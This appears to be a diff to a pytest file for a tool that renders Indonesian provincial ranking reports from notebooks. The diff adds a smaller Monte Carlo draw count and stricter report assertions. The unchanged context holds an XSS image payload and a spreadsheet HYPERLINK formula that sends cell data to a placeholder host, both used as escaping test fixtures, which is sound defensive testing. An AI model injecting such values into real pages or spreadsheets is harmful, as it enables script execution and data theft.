@@ -30,6 +30,7 @@ from paritrana_nb.uncertainty import DEFAULT_SEED
 ROOT = Path(__file__).resolve().parents[2]
 PARAMS = ROOT / "params"
 XSS = "<img src=x onerror=alert(1)>"
+DRAWS = 20  # Monte Carlo draws per report; the default (1,000) is rendered once, for province 61 in English
 FORMULA = '=HYPERLINK("http://x/?d="&A2,"Klik")'
 
 
@@ -57,10 +58,11 @@ def expected_podiums(data_dir: Path) -> dict[str, dict[str, list[list[object]]]]
 def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
     base = tmp_path_factory.mktemp("laporan")
     season_with_markup_name(base / "data")
-    outcome = run_reports(2025, base / "data", PARAMS, base / "reports", lang="id", n_jobs=2, progress=False)
+    outcome = run_reports(2025, base / "data", PARAMS, base / "reports", lang="id", n_jobs=2, progress=False,
+                          draws=DRAWS)
     assert not outcome.failed, [r.error for r in outcome.failed]
     english = run_reports(2025, base / "data", PARAMS, base / "reports", lang="en", provinces=["61"],
-                          national=False, n_jobs=1, progress=False)
+                          national=False, n_jobs=1, progress=False)  # the default draws
     assert not english.failed, [r.error for r in english.failed]
     return base
 
@@ -122,7 +124,7 @@ def test_one_failing_province_does_not_stop_the_others(tmp_path: Path, capsys: p
     season_with_markup_name(tmp_path / "data")
     out = tmp_path / "reports"
     args = ["run", "--season", "2025", "--all", "--data-dir", str(tmp_path / "data"), "--params-dir", str(PARAMS),
-            "--out", str(out), "--jobs", "2"]
+            "--out", str(out), "--jobs", "2", "--draws", str(DRAWS)]
     assert main(args) == 0
     good_65 = (out / "2025" / "65-kaltara.html").read_bytes()
     good_61 = (out / "2025" / "61-kalbar.html").read_bytes()
@@ -135,7 +137,10 @@ def test_one_failing_province_does_not_stop_the_others(tmp_path: Path, capsys: p
     captured = capsys.readouterr()
     assert "65" in captured.out and "sel rusak" in captured.out and "Traceback" not in captured.out
     assert (out / "2025" / "65-kaltara.html").read_bytes() == good_65  # previous good report kept
-    assert (out / "2025" / "61-kalbar.html").read_bytes() != b"" and good_61
+    fresh_61 = (out / "2025" / "61-kalbar.html").read_bytes()  # rendered again, from the custom notebook
+    assert fresh_61 != good_61 and b"Kalimantan Barat" in fresh_61
+    assert esc(t("report.footer_notebook", "id", file=custom.name,
+                 digest=hashlib.sha256(custom.read_bytes()).hexdigest())).encode() in fresh_61
     index = (out / "2025" / "index.html").read_text(encoding="utf-8")
     assert "GAGAL" in index and "sel rusak" in index
     assert (out / "2025" / "65-kaltara.failed.ipynb").exists()
@@ -153,8 +158,8 @@ def test_invalid_data_stops_before_any_kernel(tmp_path: Path, capsys: pytest.Cap
 
 def test_single_province_by_short_name(tmp_path: Path) -> None:
     season_with_markup_name(tmp_path / "data")
-    code = main(["run", "--season", "2025", "--province", "kaltara", "--lang", "en", "--data-dir",
-                 str(tmp_path / "data"), "--params-dir", str(PARAMS), "--out", str(tmp_path / "r")])
+    code = main(["run", "--season", "2025", "--province", "kaltara", "--lang", "en", "--draws", str(DRAWS),
+                 "--data-dir", str(tmp_path / "data"), "--params-dir", str(PARAMS), "--out", str(tmp_path / "r")])
     assert code == 0
     assert (tmp_path / "r" / "2025" / "65-kaltara.en.html").exists()
     assert json.dumps(_outputs(tmp_path / "r" / "2025" / "65-kaltara.en.ipynb")["podium"])
@@ -213,17 +218,19 @@ def _intervals_tables(html: str) -> list[list[list[str]]]:
 
 def test_robustness_sections_in_both_languages(rendered: Path) -> None:
     folder = rendered / "reports" / "2025"
-    for page, lang in (("61-kalbar.html", "id"), ("61-kalbar.en.html", "en"), ("nasional.html", "id")):
+    for page, lang, draws in (("61-kalbar.html", "id", DRAWS), ("61-kalbar.en.html", "en", 1000),
+                              ("nasional.html", "id", DRAWS)):
         html = (folder / page).read_text(encoding="utf-8")
         for key in ("report.intervals_title", "report.sensitivity_title", "report.actions_title",
                     "report.reliability_title"):
             assert esc(t(key, lang)) in html, (page, key)
-        assert esc(t("report.footer_seed", lang, draws=1000, seed=DEFAULT_SEED)) in html
+        assert esc(t("report.footer_seed", lang, draws=draws, seed=DEFAULT_SEED)) in html
         notebook = NATIONAL_NOTEBOOK if page.startswith("nasional") else PROVINCE_NOTEBOOK
         assert esc(t("report.footer_notebook", lang, file=notebook.name,
                      digest=hashlib.sha256(notebook.read_bytes()).hexdigest())) in html
         assert f'<img alt="{esc(t("report.intervals_title", lang))}" src="data:image/png;base64,' in html
-    assert _outputs(folder / "61-kalbar.ipynb")["simulasi"] == {"undian": 1000, "seed": DEFAULT_SEED}
+    assert _outputs(folder / "61-kalbar.ipynb")["simulasi"] == {"undian": DRAWS, "seed": DEFAULT_SEED}
+    assert _outputs(folder / "61-kalbar.en.ipynb")["simulasi"] == {"undian": 1000, "seed": DEFAULT_SEED}  # default
 
 
 def test_rank_intervals_match_the_score_command(rendered: Path, tmp_path: Path) -> None:
@@ -294,7 +301,7 @@ def test_reports_from_a_methodology_with_extra_categories_zones_and_awards(tmp_p
     season_with_markup_name(tmp_path / "data")
     methodology = methodology_with_extra_categories(tmp_path / "lain.yaml")
     outcome = run_reports(2025, tmp_path / "data", PARAMS, tmp_path / "reports", lang="en", metodologi=methodology,
-                          n_jobs=2, progress=False, draws=50)
+                          n_jobs=2, progress=False, draws=DRAWS)
     assert not outcome.failed, [r.error for r in outcome.failed]
     folder = tmp_path / "reports" / "2025"
     kalbar = (folder / "61-kalbar.en.html").read_text(encoding="utf-8")
